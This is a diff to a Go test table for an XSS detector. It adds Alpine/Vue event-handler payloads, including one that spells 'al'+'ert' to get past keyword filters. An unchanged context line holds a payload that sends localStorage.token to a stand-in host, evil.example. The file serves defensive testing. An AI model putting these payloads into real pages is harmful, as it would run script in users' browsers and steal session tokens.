@@ -163,6 +163,9 @@ func TestXSS(t *testing.T) {
 		{"alpine handler new image", `<div @click="new Image().src='//evil.example/?'+localStorage.token">`, true},
 		{"alpine handler innerHTML", `<div @click="$refs.box.innerHTML=msg">`, true},
 		{"alpine handler print", `<div @mouseover="print()">`, true},
+		{"alpine handler sink passed", `<div @click="[1].find(alert)">`, true},
+		{"vue handler event view", `<div @click="$event.view.alert(1)">`, true},
+		{"vue handler event view spelled", `<div @click="$event.view['al'+'ert'](1)">`, true},
 
 		// benign
 		{"bold comment", "I <b>really</b> liked it", false},
